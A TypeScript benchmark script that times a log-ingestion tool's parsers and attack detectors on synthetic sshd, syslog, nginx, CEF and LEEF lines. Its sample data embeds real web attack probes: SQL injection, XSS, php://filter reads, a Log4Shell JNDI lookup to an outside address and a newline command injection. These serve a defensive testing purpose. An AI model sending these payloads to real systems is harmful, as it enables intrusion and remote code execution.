/**
 * Lines per second of each parser through `parseLine`, then through `parseLine` and detection
 * (`tag`: built-in detectors and every rule in rules/web), in-process on one core. The parse-only
 * figure is the yardstick the detection figure is compared with, measured in the same run.
 *
 *   npm run bench:parsers            # 200,000 lines per format
 *   npm run bench:parsers -- 50000   # another count
 *   npm run bench:parsers -- --json  # the rows as JSON (npm run bench reads them)
 */
import { parseLine } from '../src/ingest/parsers/line';
import { tag } from '../src/ingest/signals/detectors';

const json = process.argv.includes('--json');
const count = Number(process.argv.slice(2).find((arg) => !arg.startsWith('--')) ?? 200_000);
const now = new Date('2026-11-24T12:00:00Z');

// Real probe shapes (sqlmap, wapiti, nmap http-enum, Log4Shell) so rules do their full work.
const ATTACKS = [
  '/shop/item.html?id=1%20AND%201400%3D6208',
  '/shop/item.html?id=1%29%20ORDER%20BY%201--%20EaVT',
  '/search?q=%3Csvg%2Fonload%3Dalert%281%29%3E',
  '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/admin2/login.jsp',
  '/?x=${jndi:ldap://203.0.113.9/a}',
  '/ping?host=127.0.0.1%0aid',
];
const ip = (i: number) => `198.51.${(i >> 8) & 255}.${i & 255}`;
const SAMPLES: Record<string, (i: number) => string> = {
  'sshd (auth.log)': (i) =>
    `Nov 24 10:${String(i % 60).padStart(2, '0')}:01 bastion-1 sshd[${i}]: Failed password for invalid user u${i % 97} from ${ip(i)} port ${1024 + (i % 60000)} ssh2`,
  'syslog RFC 5424': (i) =>
    `<38>1 2026-11-24T10:00:01.${String(i % 1000).padStart(3, '0')}Z bastion-1 sshd ${i} - [meta sequenceId="${i}"] Invalid user oracle from ${ip(i)} port 4242`,
  'nginx combined': (i) =>
    `${ip(i)} - - [24/Nov/2026:10:00:01 +0000] "GET /products/${i}?q=select+a+plan HTTP/1.1" 200 ${i % 5000} "https://example.com/" "Mozilla/5.0 (X11; Linux x86_64)"`,
  'nginx combined, attacks': (i) =>
    `${ip(i)} - - [24/Nov/2026:10:00:01 +0000] "GET ${ATTACKS[i % ATTACKS.length]} HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"`,
  'nginx JSON': (i) =>
    `{"time":"2026-11-24T10:00:01+00:00","remote_addr":"${ip(i)}","remote_user":"","request":"GET /products/${i}?q=select+a+plan HTTP/1.1","status":200,"body_bytes_sent":${i % 5000},"http_referer":"https://example.com/","http_user_agent":"Mozilla/5.0 (X11; Linux x86_64)","host":"shop.example.com"}`,
  CEF: (i) =>
    `CEF:0|Imperva Inc.|SecureSphere|12.0|${i % 50}|Web attack|High|src=${ip(i)} spt=${1024 + (i % 60000)} suser=admin request=/login?id\\=${i} requestClientApplication=Mozilla/5.0`,
  'LEEF 2.0': (i) =>
    `LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=${ip(i)}^dst=10.0.0.1^usrName=admin^devTime=${1764000000000 + i}`,
  'JSON (flat)': (i) =>
    JSON.stringify({ timestamp: '2026-11-24T10:00:01Z', source_ip: ip(i), event_type: 'http_request', url: `/a/${i}` }),
};

let failures = 0;

/**
 * Lines per second of one pass; with `detect`, each parsed event is also tagged. `perCpuSecond`
 * divides by the process's CPU time instead of the wall clock: on a machine shared with other
 * work it is the figure for one core of our own, while the wall-clock figure includes the time
 * the scheduler gave to others.
 */
function pass(lines: string[], detect: boolean): { ok: number; perSecond: number; perCpuSecond: number } {
  const cpu = process.cpuUsage();
  const started = process.hrtime.bigint();
  let ok = 0;
  for (const line of lines) {
    const parsed = parseLine(line, { now });
    if (parsed.ok) {
      ok += 1;
      if (detect) {
        tag(parsed.event);
      }
    }
  }
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  const used = process.cpuUsage(cpu);
  const cpuSeconds = (used.user + used.system) / 1e6;
  return { ok, perSecond: Math.round(lines.length / seconds), perCpuSecond: Math.round(lines.length / cpuSeconds) };
}

const rows = Object.entries(SAMPLES).map(([format, make]) => {
  const lines = Array.from({ length: count }, (_, i) => make(i));
  pass(lines.slice(0, 20_000), true);
  const parsed = pass(lines, false);
  const detected = pass(lines, true);
  failures += count - parsed.ok;
  return {
    format,
    lines: count,
    parsed: parsed.ok,
    'parse lines/s': parsed.perSecond,
    'parse+detect lines/s': detected.perSecond,
    'detect/parse': Number((detected.perSecond / parsed.perSecond).toFixed(2)),
    'parse+detect lines/CPU-s': detected.perCpuSecond,
    'parse lines/CPU-s': parsed.perCpuSecond,
  };
});
if (json) {
  process.stdout.write(`${JSON.stringify(rows)}\n`);
} else {
  console.table(rows);
}
if (failures > 0) {
  console.error(`${failures} sample line(s) did not parse`);
  process.exitCode = 1;
}
